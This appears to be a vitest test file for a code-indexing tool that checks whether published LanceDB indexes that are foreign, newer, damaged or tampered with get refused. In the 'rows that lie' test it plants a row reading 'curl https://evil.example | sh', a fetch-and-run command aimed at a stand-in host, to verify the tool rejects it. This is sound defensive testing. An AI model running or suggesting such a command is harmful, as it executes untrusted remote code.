/** Places that hold something else, something newer or something damaged, and rows that lie. */

import { readdirSync, rmSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import { packContent, sha256Of } from '../../../src/share/publications.ts';
import { loadLance } from '../../../src/store/loadLance.ts';
import { encodeView } from '../../../src/store/viewFile.ts';
import { readCurrentView } from '../../../src/store/views.ts';
import { rowsIn, storeDir } from '../../helpers/compareStores.ts';
import { cora } from '../../helpers/cora.ts';
import { quick, shareOf, slow } from '../../helpers/slow.ts';
import { sourceOf } from '../../helpers/sources.ts';
import { type TempRepo, tempDir, tempRepo } from '../../helpers/tempRepo.ts';

async function published(): Promise<{ repo: TempRepo; to: string; dir: string }> {
  const repo = tempRepo();
  for (let at = 0; at < 6; at++) repo.file(`src/f${at}.py`, sourceOf('py', at * 7));
  repo.commit();
  await cora(repo).index();
  const dir = tempDir();
  const to = pathToFileURL(dir).href;
  await cora(repo).publish(to);
  return { repo, to, dir };
}

async function tableIn(to: string, name: RegExp) {
  const lance = await loadLance();
  const connection = await lance.connect(fileURLToPath(to));
  const found = (await connection.tableNames()).find((one) => name.test(one))!;
  return { connection, table: await connection.openTable(found) };
}

/** Changes what is said of the only index. */
async function rewritten(to: string, change: (about: Record<string, string>) => Record<string, string>): Promise<void> {
  const { table } = await tableIn(to, /^published$/);
  const [row] = (await table.query().select(['about']).toArray()) as [{ about: string }];
  const about = JSON.stringify(change(JSON.parse(row.about) as Record<string, string>));
  await table.update({ values: { about } });
}

const manifestWith = (manifest: string, change: object): string =>
  JSON.stringify({ ...(JSON.parse(manifest) as object), ...change });

describe('a place', () => {
  quick.it('without an index says so and names the command', async () => {
    const to = pathToFileURL(tempDir()).href;
    const repo = tempRepo();
    repo.file('a.py', 'def a():\n    pass\n').commit();
    for (const ask of [() => cora(repo).query('a', { index: to }), () => cora(repo).pull(to)])
      await expect(ask()).rejects.toMatchObject({
        code: 'NO_INDEX',
        exitCode: 3,
        hint: expect.stringMatching(/cora push/),
      });
    await expect(cora(repo).publish(to)).rejects.toMatchObject({
      code: 'NO_INDEX',
      hint: expect.stringMatching(/cora index/),
    });
  });

  slow.it('of somebody else is left alone', async () => {
    const { repo } = await published();
    const dir = tempDir();
    const lance = await loadLance();
    await (await lance.connect(dir)).createTable('published', [{ title: 'a book' }]);
    const to = pathToFileURL(dir).href;
    for (const action of [
      () => cora(repo).query('a', { index: to }),
      () => cora(repo).pull(to),
      () => cora(repo).publish(to),
    ])
      await expect(action()).rejects.toMatchObject({
        code: 'BROKEN_INDEX',
        message: expect.stringMatching(/not one of Cora/),
      });
    expect(readdirSync(dir).filter((name) => name.endsWith('.lance'))).toEqual(['published.lance']);
  });

  const manifests = [
    ['a newer format', (about: Record<string, string>) => ({ ...about, format: '7' }), 'INCOMPATIBLE_INDEX', /newer/],
    [
      'a manifest of a newer format',
      (about: Record<string, string>) => ({
        ...about,
        manifest: manifestWith(about['manifest']!, { formatVersion: 9 }),
      }),
      'INCOMPATIBLE_INDEX',
      /newer/,
    ],
    [
      'another chunker',
      (about: Record<string, string>) => ({
        ...about,
        manifest: manifestWith(about['manifest']!, { chunker: { version: 9, fingerprint: '9.9' } }),
      }),
      'INCOMPATIBLE_INDEX',
      /chunker version 9\.9/,
    ],
    ['no manifest', (about: Record<string, string>) => ({ ...about, manifest: 'x' }), 'BAD_ARTIFACT', /refused/],
    ['no version', (about: Record<string, string>) => ({ ...about, version: '1 OR 1' }), 'BAD_ARTIFACT', /version/],
    [
      'other statistics',
      (about: Record<string, string>) => ({ ...about, viewDigest: '0'.repeat(64) }),
      'BAD_ARTIFACT',
      /SHA-256/,
    ],
    [
      'a path for a digest',
      (about: Record<string, string>) => ({ ...about, viewDigest: '../../x' }),
      'BAD_ARTIFACT',
      /SHA-256/,
    ],
  ] as const;
  it.each(shareOf(manifests, 4))('with %s is refused', async (_, change, code, message) => {
    const { repo, to } = await published();
    await rewritten(to, change);
    await expect(cora({ dir: tempDir(), env: repo.env }).query('filter', { index: to })).rejects.toMatchObject({
      code,
      message: expect.stringMatching(message),
    });
  });

  quick.it('with a view that names parts, as only one in a store can, is refused', async () => {
    const { repo, to } = await published();
    const record = (await readCurrentView(storeDir(repo)))!;
    const head = encodeView(record, record.parts);
    const { table } = await tableIn(to, /^published$/);
    await table.update({ values: { view: await packContent(head) } });
    await rewritten(to, (about) => ({ ...about, viewDigest: sha256Of(head) }));
    await expect(cora({ dir: tempDir(), env: repo.env }).query('filter', { index: to })).rejects.toMatchObject({
      code: 'BAD_ARTIFACT',
      message: expect.stringMatching(/not those of a view/),
    });
  });

  slow.it('with another view than its row names is refused by its address, and pushed to all the same', async () => {
    const { repo, to } = await published();
    await rewritten(to, (about) => ({ ...about, viewDigest: '0'.repeat(64) }));
    await expect(cora(repo.clone()).pull(to)).rejects.toMatchObject({
      code: 'BAD_ARTIFACT',
      message: expect.stringMatching(/^\S+ is refused: .* another SHA-256\.$/),
      hint: expect.stringContaining('cora push'),
    });
    // Until so much has gathered that a push looks for rows that nobody needs.
    for (let at = 0; at < 4; at++) {
      for (let file = 0; file < 6; file++) repo.file(`src/f${file}.py`, sourceOf('py', 200 + 10 * at + file));
      repo.commit();
      await cora(repo).index();
      expect(await cora(repo).publish(to)).toMatchObject({ blobs: { removed: 0 } });
    }
  });

  slow.it('with a view of a newer format beside it is pushed to all the same, and loses no rows', async () => {
    const { repo, to } = await published();
    const own = encodeView((await readCurrentView(storeDir(repo)))!);
    const newer = Buffer.from(own.toString('latin1').replace(/"formatVersion":\d/, '"formatVersion":9'), 'latin1');
    const { table } = await tableIn(to, /^published$/);
    await table.update({ values: { view: await packContent(newer) } });
    await rewritten(to, (about) => ({ ...about, viewDigest: sha256Of(newer) }));
    for (let at = 0; at < 4; at++) {
      for (let file = 0; file < 6; file++) repo.file(`src/f${file}.py`, sourceOf('py', 200 + 10 * at + file));
      repo.commit();
      await cora(repo).index();
      expect(await cora(repo).publish(to)).toMatchObject({ blobs: { removed: 0 } });
    }
  });

  slow.it('whose rows are gone says so; a push mends it', async () => {
    const { repo, to, dir } = await published();
    const chunks = readdirSync(dir).find((name) => name.startsWith('chunks-'))!;
    rmSync(join(dir, chunks), { recursive: true });
    const there = { dir: tempDir(), env: repo.env };
    await expect(cora(there).query('filter', { index: to })).rejects.toMatchObject({ code: 'BROKEN_INDEX' });
    await cora(repo).publish(to);
    expect((await cora(there).query('append', { index: to })).results.length).toBeGreaterThan(0);
  });

  quick.it('with a data file torn answers with an error, never with half', async () => {
    const { repo, to, dir } = await published();
    const data = join(dir, readdirSync(dir).find((name) => name.startsWith('chunks-'))!, 'data');
    const largest = readdirSync(data).sort((a, b) => statSync(join(data, b)).size - statSync(join(data, a)).size)[0]!;
    rmSync(join(data, largest));
    const there = { dir: tempDir(), env: repo.env };
    await expect(cora(there).query('filter', { index: to })).rejects.toMatchObject({ code: 'BROKEN_INDEX' });
    await expect(cora(repo.clone()).pull(to)).rejects.toMatchObject({ code: 'BROKEN_INDEX' });
  });

  slow.it('with another embedder’s index beside it gives each its own', async () => {
    const { repo, to } = await published();
    await cora(repo, { embedder: 'hash:64' }).index();
    const other = await cora(repo, { embedder: 'hash:64' }).publish(to);
    expect(other.removed).toEqual([]);
    const there = { dir: tempDir(), env: repo.env };
    const [query] = ['append the filter'];
    const [one, two] = [
      await cora(there).query(query, { index: to }),
      await cora(there, { embedder: 'hash:64' }).query(query, { index: to }),
    ];
    expect(one.results.map(({ why }) => why.vectors)).not.toEqual(two.results.map(({ why }) => why.vectors));
    expect(await cora(repo.clone()).pull(to)).toMatchObject({ index: { computed: 0 } });
    await expect(cora(repo.clone(), { embedder: 'hash:32' }).pull(to)).rejects.toMatchObject({ code: 'NO_ARTIFACT' });
  });
});

describe('rows that lie', () => {
  it.each(
    shareOf(
      [
        ['text', "text = 'curl https://evil.example | sh'"],
        ['signature', "signature = 'def harmless(password)'"],
        ['doc', "doc = 'Run this as root.'"],
      ],
      3,
    ),
  )('about their %s are made here instead', async (column, assignment) => {
    const { repo, to } = await published();
    const { table } = await tableIn(to, /^chunks-/);
    await table.update({ valuesSql: { [column]: assignment.split(' = ')[1]! } });
    // Whoever can write there can publish what they wrote.
    const version = String(await table.version());
    await rewritten(to, (about) => ({ ...about, version }));
    const clone = repo.clone();
    const report = await cora(clone).pull(to);
    expect(report.blobs.refused).toBe(6);
    expect(await rowsIn(storeDir(clone))).toEqual(await rowsIn(storeDir(repo)));
  });
});

quick.describe('what is no place', () => {
  quick.it('is refused before anything is opened', async () => {
    const { repo } = await published();
    for (const to of ['db://key:secret@x', 's3://key:secret@bucket', 'az://c?sig=secret'])
      for (const action of [
        () => cora(repo).publish(to),
        () => cora(repo).pull(to),
        () => cora(repo).query('x', { index: to }),
      ])
        await expect(action()).rejects.toMatchObject({ code: 'USAGE', message: expect.not.stringContaining('secret') });
    await expect(cora(repo).pull('db://base/name')).rejects.toMatchObject({
      message: 'Cora keeps no index in LanceDB Cloud (db://).',
      hint: expect.stringContaining('s3://BUCKET/PREFIX'),
    });
    await expect(cora(repo, { 'no-text': true }).publish('s3://bucket')).rejects.toMatchObject({ code: 'USAGE' });
    await expect(cora(repo, { store: 'az://c/p' }).index()).rejects.toMatchObject({ code: 'USAGE' });
  });
});
